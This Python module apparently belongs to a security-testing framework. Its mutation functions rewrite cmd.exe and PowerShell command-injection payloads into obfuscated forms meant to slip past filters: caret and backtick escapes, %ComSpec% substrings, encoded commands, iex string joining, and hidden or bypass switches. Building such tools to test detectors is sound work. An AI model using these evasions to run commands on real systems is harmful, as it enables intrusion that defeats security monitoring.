"""cmd.exe and PowerShell: what their parsers drop or join.

Source: Microsoft's reference of cmd (escape character ^, delimiters, variable substrings `%v:~n,m%`) and PowerShell's
about_Parsing, about_Special_Characters, about_Operators, about_PowerShell_exe (-EncodedCommand).
"""

import base64
import re
from collections.abc import Callable
from random import Random

from .html import mixed
from .model import Attack, mutation

RCE = ("rce",)
CMD = ("cmd",)
POWERSHELL = ("powershell",)

CMD_COMMAND = re.compile(
    r"(?P<start>[&|\n]\s*|^)(?P<program>[A-Za-z]+)(?P<arguments>(?:[ ]+[\w./:\\-]+)*)(?=\s*(?:[&|\n>]|$))"
)


def commands(attack: Attack, write: Callable[[str, list[str]], str]) -> str:
    """The payload with commands written otherwise; what stands before the first separator is data."""

    def one(match: re.Match) -> str:
        if not match["start"] and attack.context != "command":
            return match[0]
        return match["start"] + write(match["program"], match["arguments"].split())

    return CMD_COMMAND.sub(one, attack.payload)


@mutation("cmd-case", RCE, "Commands have no case.", CMD)
def case(attack: Attack, rng: Random) -> str:
    """Mixed case."""
    return commands(attack, lambda p, rest: " ".join([mixed(p, rng), *rest]))


@mutation("cmd-carets", RCE, "A caret makes the next sign ordinary and goes.", CMD)
def carets(attack: Attack, rng: Random) -> str:
    """`w^hoami`."""

    def write(text: str) -> str:
        return "".join(
            f"^{c}" if i and c.isalnum() and (i == 1 or rng.random() < 0.5) else c for i, c in enumerate(text)
        )

    return commands(attack, lambda p, rest: " ".join([write(p), *(write(a) for a in rest)]))


@mutation("cmd-quotes", RCE, "Quotes inside a program's name go.", CMD)
def quotes(attack: Attack, rng: Random) -> str:
    """`w"h"oami`; commands of cmd itself take none."""
    own = ("dir", "type", "echo", "copy", "del", "set", "ver", "md", "move", "start")

    def write(program: str, rest: list[str]) -> str:
        if program.lower() in own:
            return " ".join([program, *rest])
        return " ".join([f'{program[0]}"{program[1]}"{program[2:]}', *rest])

    return commands(attack, write)


@mutation("cmd-substrings", RCE, "A substring of a variable is text; ComSpec is the path of cmd.exe everywhere.", CMD)
def substrings(attack: Attack, rng: Random) -> str:
    """`%ComSpec:~n,1%` for a letter."""
    known = r"c:\windows\system32\cmd.exe"

    def write(program: str, rest: list[str]) -> str:
        out = [
            f"%{rng.choice(('ComSpec', 'COMSPEC'))}:~{known.index(c)},1%" if c in known and c.isalpha() else c
            for c in program.lower()
        ]
        return " ".join(["".join(out), *rest])

    return commands(attack, write)


@mutation("cmd-delimiters", RCE, "Comma, semicolon, = and tab part words as a blank does.", CMD)
def delimiters(attack: Attack, rng: Random) -> str:
    """`type,file`."""
    return commands(attack, lambda p, rest: p + "".join(rng.choice((",", ";", "\t", ",;,", "=")) + a for a in rest))


@mutation("cmd-shell-c", RCE, "cmd /c runs the rest.", CMD)
def shell_c(attack: Attack, rng: Random) -> str:
    """`cmd /c whoami`."""
    heads = (
        "cmd /c ",
        "cmd.exe /c ",
        "%ComSpec% /c ",
        "cmd/c",
        "CMD /Q /C ",
        "start /b ",
        "call ",
        "@",
        "cmd /v:on /c ",
    )
    return commands(attack, lambda p, rest: rng.choice(heads) + " ".join([p, *rest]))


@mutation("cmd-for", RCE, "for /f runs a command for its lines; for runs its body for each word.", CMD)
def for_loop(attack: Attack, rng: Random) -> str:
    """`for %i in (whoami) do %i`."""

    def write(program: str, rest: list[str]) -> str:
        tail = "".join(f" {a}" for a in rest)
        return rng.choice((f"for %i in ({program}) do %i{tail}", f"for /f %i in ('{program}{tail}') do @echo %i"))

    return commands(attack, write)


@mutation("cmd-separator", RCE, "Commands follow each other by &, && and ||; & runs the second always.", CMD)
def separator(attack: Attack, rng: Random) -> str:
    """Another separator."""
    return re.sub(
        r"(?<![&|])(&&|&)(?![&|])",
        lambda m: rng.choice([s for s in ("&", "&&", " & ", "\t&", "\r\n") if s != m[1]]),
        attack.payload,
        count=1,
    )


@mutation("cmd-group", RCE, "Parentheses group commands.", CMD)
def group(attack: Attack, rng: Random) -> str:
    """`(whoami)`."""
    return commands(attack, lambda p, rest: f"({' '.join([p, *rest])})")


@mutation("ps-case", RCE, "PowerShell has no case.", POWERSHELL)
def ps_case(attack: Attack, rng: Random) -> str:
    """Mixed case, outside quotes."""
    return re.sub(
        r"'[^']*'|\"[^\"]*\"|[A-Za-z]+", lambda m: m[0] if m[0][0] in "'\"" else mixed(m[0], rng), attack.payload
    )


@mutation("ps-backticks", RCE, "A backtick before a letter that is no escape goes.", POWERSHELL)
def ps_backticks(attack: Attack, rng: Random) -> str:
    """`In`voke-Expression`."""

    def write(match: re.Match) -> str:
        text = match[0]
        places = [i for i in range(1, len(text)) if text[i].lower() not in "0abefnrtuv"]
        if text[0] in "'\"" or not places:
            return text
        at = rng.choice(places)
        return f"{text[:at]}`{text[at:]}"

    return re.sub(r"'[^']*'|\"[^\"]*\"|(?<![.\w$])[A-Za-z]{3,}(?:-[A-Za-z]+)?(?![\w.])", write, attack.payload)


@mutation("ps-aliases", RCE, "Aliases name the same cmdlets (Get-Alias).", POWERSHELL)
def ps_aliases(attack: Attack, rng: Random) -> str:
    """Aliases for cmdlets."""
    same = {"Invoke-Expression": "iex", "Invoke-WebRequest": "iwr", "Get-Content": "gc", "Get-ChildItem": "gci",
            "Get-Process": "gps", "New-Object": "New-Object -TypeName", "Start-Process": "saps", "Invoke-RestMethod": "irm"}  # fmt: skip
    return re.sub(r"[A-Za-z]+-[A-Za-z]+", lambda m: same.get(m[0], m[0]), attack.payload)


def ps_tail(attack: Attack) -> tuple[str, str] | None:
    """What leads to `powershell -c`, and the script behind it in quotes or bare."""
    found = re.fullmatch(
        r"(.*?\bpowershell(?:\.exe)?\b.*?-(?:c|Command)\s+)\"?([^\"]+)\"?", attack.payload, re.DOTALL | re.IGNORECASE
    )
    return (found[1], found[2]) if found else None


@mutation(
    "ps-encoded",
    RCE,
    "-EncodedCommand takes base64 of UTF-16; any unambiguous beginning of its name will do.",
    POWERSHELL,
)
def ps_encoded(attack: Attack, rng: Random) -> str | None:
    """`powershell -enc ...`."""
    found = ps_tail(attack)
    if not found:
        return None
    code = base64.b64encode(found[1].encode("utf-16-le")).decode()
    head = re.sub(r"(?i)-(?:c|Command)\s+$", "", found[0])
    return f"{head}{rng.choice(('-e', '-enc', '-EncodedCommand', '-ec', '-eNc', '/enc'))} {code}"


@mutation("ps-joined", RCE, "+ joins strings, & and iex run what a string names.", POWERSHELL)
def ps_joined(attack: Attack, rng: Random) -> str | None:
    """`&('who'+'ami')`, `iex('...'+'...')`."""
    found = ps_tail(attack)
    if not found or "'" in found[1]:
        return None
    at = rng.randrange(1, len(found[1]))
    left, right = found[1][:at], found[1][at:]
    forms = (
        f"iex('{left}'+'{right}')",
        f"'{left}'+'{right}'|iex",
        f"iex (('{{1}}{{0}}') -f '{right}','{left}')",
        f"& ([scriptblock]::Create('{left}'+'{right}'))",
    )
    return f'{found[0]}"{rng.choice(forms)}"'


@mutation("ps-switches", RCE, "Other switches in front, by any beginning of their names.", POWERSHELL)
def ps_switches(attack: Attack, rng: Random) -> str:
    """More switches."""
    more = rng.choice(
        ("-nop -w hidden ", "-NoProfile -NonInteractive ", "-exec bypass ", "-ep Bypass -nol ", "-v 2 -nop ")
    )
    return re.sub(r"(?i)(?<=powershell )|(?<=powershell\.exe )", more, attack.payload, count=1)
